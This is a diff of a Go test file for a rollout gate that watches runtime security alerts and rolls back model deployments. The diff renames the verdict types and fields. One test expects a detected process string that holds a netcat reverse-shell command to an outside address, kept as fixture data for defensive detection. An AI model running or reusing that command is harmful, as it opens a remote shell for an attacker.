@@ -111,10 +111,10 @@ func (e *env) watch(t *testing.T, c *acs.Client, in gate.WatchInput) (gate.Runti
 	return r, time.Since(begin), phases
 }
 
-func want(t *testing.T, r gate.RuntimeReport, v gate.Verdict, reason string, msgs ...string) {
+func want(t *testing.T, r gate.RuntimeReport, v gate.RuntimeVerdict, reason string, msgs ...string) {
 	t.Helper()
-	if r.Verdict != v || r.Reason != reason {
-		t.Fatalf("verdict %s/%s %q; want %s/%s", r.Verdict, r.Reason, r.Message, v, reason)
+	if r.Decision != v || r.Reason != reason {
+		t.Fatalf("verdict %s/%s %q; want %s/%s", r.Decision, r.Reason, r.Message, v, reason)
 	}
 	for _, m := range msgs {
 		if !strings.Contains(r.Message, m) {
@@ -128,7 +128,7 @@ func TestCleanRolloutPassesAfterTheWindow(t *testing.T) {
 	e.exec(t, uid, "/usr/bin/modelguard", "serve --models /mnt/models")
 	in := e.input(gate.RuntimePolicy{})
 	r, took, phases := e.watch(t, e.client, in)
-	want(t, r, gate.VerdictPass, "", "1 process(es) seen")
+	want(t, r, gate.RuntimePass, "", "1 process(es) seen")
 	if took < in.Window+in.Grace {
 		t.Errorf("passed after %s, before the window and grace (%s) were over", took, in.Window+in.Grace)
 	}
@@ -158,7 +158,7 @@ func TestRuntimeAlertFailsFastAndRollsBack(t *testing.T) {
 	in := e.input(gate.RuntimePolicy{})
 	in.OnFail = gate.OnFailScaleToZero
 	r, took, _ := e.watch(t, e.client, in)
-	want(t, r, gate.VerdictFail, gate.ReasonRuntimeViolation, `"Netcat Execution Detected" (HIGH, RUNTIME, ACTIVE) on granite-predictor`,
+	want(t, r, gate.RuntimeFail, gate.ReasonRuntimeViolation, `"Netcat Execution Detected" (HIGH, RUNTIME, ACTIVE) on granite-predictor`,
 		"process /usr/bin/nc -e /bin/sh 203.0.113.7 4444 in container kserve-container of pod granite-predictor-abc12", "rolled back")
 	if took > in.Window {
 		t.Errorf("failed after %s: not at once", took)
@@ -177,7 +177,7 @@ func TestProcessOutsideTheAllowList(t *testing.T) {
 		t.Fatal(err)
 	}
 	r, _, _ := e.watch(t, e.client, e.input(gate.RuntimePolicy{Allow: allow}))
-	want(t, r, gate.VerdictFail, gate.ReasonProcessNotAllowed, "kserve-container ran /bin/sh, which is not on the allow-list")
+	want(t, r, gate.RuntimeFail, gate.ReasonProcessNotAllowed, "kserve-container ran /bin/sh, which is not on the allow-list")
 }
 
 // What cannot be verified is inconclusive, not a pass.
@@ -191,27 +191,27 @@ func TestInconclusive(t *testing.T) {
 
 	t.Run("token without Alert read", func(t *testing.T) {
 		r, _, _ := e.watch(t, newClient(t, e.central, "ci-only"), e.input(gate.RuntimePolicy{}))
-		want(t, r, gate.VerdictInconclusive, gate.ReasonMissingPermissions, "cannot read Alert")
+		want(t, r, gate.RuntimeInconclusive, gate.ReasonMissingPermissions, "cannot read Alert")
 	})
 	t.Run("token whose scope leaves the namespace out", func(t *testing.T) {
 		r, _, _ := e.watch(t, newClient(t, e.central, "dev-scope"), e.input(gate.RuntimePolicy{}))
-		want(t, r, gate.VerdictInconclusive, gate.ReasonDeploymentNotSeen, "never reported deployment fraud-prod/granite-predictor")
+		want(t, r, gate.RuntimeInconclusive, gate.ReasonDeploymentNotSeen, "never reported deployment fraud-prod/granite-predictor")
 	})
 	t.Run("a deployment Central never reports", func(t *testing.T) {
 		in := e.input(gate.RuntimePolicy{})
 		in.Workloads = &workloads{targets: []gate.Target{{UID: "2e1a0f9b-8c7d-4e6f-9a4b-3c2d1e0f9a8b", Name: "ghost", Namespace: "fraud-prod"}}}
 		r, _, _ := e.watch(t, e.client, in)
-		want(t, r, gate.VerdictInconclusive, gate.ReasonDeploymentNotSeen, "ghost")
+		want(t, r, gate.RuntimeInconclusive, gate.ReasonDeploymentNotSeen, "ghost")
 	})
 	t.Run("no process reaches Central", func(t *testing.T) {
 		e.deploy(t, canaryUID, "quiet")
 		in := e.input(gate.RuntimePolicy{})
 		in.Workloads = &workloads{targets: []gate.Target{{UID: canaryUID, Name: "quiet", Namespace: "fraud-prod"}}}
 		r, _, _ := e.watch(t, e.client, in)
-		want(t, r, gate.VerdictInconclusive, gate.ReasonNoProcessesSeen)
+		want(t, r, gate.RuntimeInconclusive, gate.ReasonNoProcessesSeen)
 		in.Policy.AcceptInconclusive = []string{gate.ReasonNoProcessesSeen}
 		r, _, _ = e.watch(t, e.client, in)
-		if r.Verdict != gate.VerdictInconclusive || !r.Accepted {
+		if r.Decision != gate.RuntimeInconclusive || !r.Accepted {
 			t.Errorf("accepted: %+v", r)
 		}
 	})
@@ -221,7 +221,7 @@ func TestInconclusive(t *testing.T) {
 		}
 		defer e.central.SetClusterHealth(e.central.ClusterID(), "", "HEALTHY")
 		r, _, _ := e.watch(t, e.client, e.input(gate.RuntimePolicy{}))
-		want(t, r, gate.VerdictInconclusive, gate.ReasonSensorUnhealthy, "Collector UNHEALTHY")
+		want(t, r, gate.RuntimeInconclusive, gate.ReasonSensorUnhealthy, "Collector UNHEALTHY")
 	})
 }
 
@@ -232,12 +232,12 @@ func TestCentralErrors(t *testing.T) {
 	e.exec(t, uid, "/usr/bin/modelguard", "serve")
 	e.central.FailNext("/v1/alerts", 3, 503, "", acsemulator.ErrorBody(14, "central restarting"))
 	r, _, _ := e.watch(t, e.client, e.input(gate.RuntimePolicy{}))
-	want(t, r, gate.VerdictPass, "")
+	want(t, r, gate.RuntimePass, "")
 
 	e.central.FailNext("/v1/alerts", 1<<20, 503, "", acsemulator.ErrorBody(14, "central down"))
 	in := e.input(gate.RuntimePolicy{})
 	r, took, _ := e.watch(t, e.client, in)
-	want(t, r, gate.VerdictInconclusive, gate.ReasonCentralUnavailable, "central down")
+	want(t, r, gate.RuntimeInconclusive, gate.ReasonCentralUnavailable, "central down")
 	if took > 2*(in.Window+in.Grace)+5*time.Second {
 		t.Errorf("gave up only after %s", took)
 	}
@@ -252,7 +252,7 @@ func TestRepeatedWatchKeepsItsWindow(t *testing.T) {
 	in := e.input(gate.RuntimePolicy{})
 	in.Start = time.Now().Add(-in.Window - in.Grace - time.Second)
 	r, took, _ := e.watch(t, e.client, in)
-	want(t, r, gate.VerdictPass, "")
+	want(t, r, gate.RuntimePass, "")
 	if took > time.Second {
 		t.Errorf("a watch whose window is over took %s", took)
 	}
